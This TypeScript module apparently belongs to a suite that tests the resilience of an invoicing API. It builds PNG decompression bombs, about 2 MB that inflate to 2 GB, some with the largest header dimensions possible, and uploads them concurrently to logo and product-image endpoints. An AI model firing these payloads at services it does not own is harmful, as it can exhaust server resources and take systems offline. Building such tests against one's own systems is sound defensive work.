// Images of two megabytes that inflate to two gigabytes, wherever somebody can put an image.
import { createDeflate } from 'node:zlib';
import { Boekstaaf } from 'boekstaaf';
import { buffer } from 'node:stream/consumers';
import { Readable } from 'node:stream';
import { createPng } from '../images.ts';
import { emptyCompany, createPricedProduct } from '../world.ts';
import { runConcurrently, type Attack } from './attack.ts';

const MEGABYTE = 1_000_000;
const INFLATED_MEGABYTES = 2_000;
/** The sizes in the header: small, the true one, and the largest that fits into a header. */
const SIZES = [
  [10, 10],
  [25_000, 20_000],
  [4_000, 3_000],
  [2 ** 31 - 1, 2 ** 31 - 1],
] as const;
const ROUND_COUNT = 5;
const CONCURRENT_REQUESTS = 4;

export const inflatingImages: Attack = {
  name: 'images of 2 MB that inflate to 2 GB',
  async run(target) {
    const api = new Boekstaaf({ baseUrl: target.baseUrl, apiKey: target.key });
    const { factuur_pdf_template_id } = await emptyCompany(api);
    const { id } = await createPricedProduct(api, 10);
    const paths = [
      `/api2/pdf_templates/${String(factuur_pdf_template_id)}/logo`,
      `/api2/producten/${String(id)}/afbeelding`,
    ];
    const pixels = await compressZeros();
    const put = (path: string, body: Buffer) => () =>
      target.ask('PUT', path, { body, headers: { 'content-type': 'image/png' } });
    const works = Array.from({ length: ROUND_COUNT }, () =>
      SIZES.flatMap((size) => paths.map((path) => put(path, createPng(size, pixels)))),
    ).flat();

    return { statuses: await runConcurrently(works, CONCURRENT_REQUESTS) };
  },
};

/** Zeros, compressed, without having all of them at once. */
async function compressZeros(): Promise<Buffer> {
  const chunk = Buffer.alloc(MEGABYTE);
  const zeros = Readable.from(Array.from({ length: INFLATED_MEGABYTES }, () => chunk));
  return buffer(zeros.pipe(createDeflate({ level: 9 })));
}
